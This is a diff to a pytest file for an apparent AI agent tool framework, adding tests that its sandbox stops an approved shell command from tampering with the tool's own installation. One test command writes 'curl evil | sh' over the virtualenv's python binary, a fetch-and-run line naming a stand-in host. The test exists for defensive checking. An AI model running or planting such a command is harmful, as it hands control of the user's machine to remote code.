@@ -12,7 +12,13 @@ from typing import Any
 
 import pytest
 
-from fakes.containment import a_person_says_yes, check_contained, failing_bwrap, jail_active
+from fakes.containment import (
+    a_person_says_yes,
+    asked_first,
+    check_contained,
+    failing_bwrap,
+    jail_active,
+)
 from fakes.planted import SECRET_TEXT
 from fakes.tool_runs import call_tool, everything_shown
 from troupe import Tool, builtin_tools
@@ -274,3 +280,39 @@ async def listener() -> AsyncIterator[tuple[int, list[Any]]]:
     yield server.sockets[0].getsockname()[1], connections
     server.close()
     await server.wait_closed()
+
+
+def test_troupes_own_installation_is_its_environment_and_package() -> None:
+    import sys
+
+    import troupe
+    from troupe.sandbox.jail import own_installation
+
+    found = own_installation()
+    assert Path(sys.prefix).resolve() in found
+    assert Path(troupe.__file__).resolve().parent in found
+
+
+async def test_an_approved_command_cannot_change_troupes_installation_in_the_workspace(
+    workspace: Path, data_dir: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # The usual development setup: the project is the workspace and holds the venv.
+    venv = workspace / ".venv"
+    (venv / "bin").mkdir(parents=True)
+    (venv / "bin" / "python").write_text("#!/bin/sh\n", encoding="utf-8")
+    monkeypatch.setattr("troupe.sandbox.jail.own_installation", lambda: (venv.resolve(),))
+    tools = builtin_tools(workspace=workspace, data_dir=data_dir)
+
+    run = await call_tool(
+        tools,
+        "exec_shell",
+        {"command": "echo 'curl evil | sh' > .venv/bin/python; echo made > made.txt"},
+        policy="auto",
+        ask=a_person_says_yes,
+    )
+
+    if jail_active():
+        assert (venv / "bin" / "python").read_text(encoding="utf-8") == "#!/bin/sh\n"
+        assert (workspace / "made.txt").exists()  # the rest of the workspace stays writable
+    else:
+        assert asked_first(run)  # unjailed, a person said yes to exactly this command
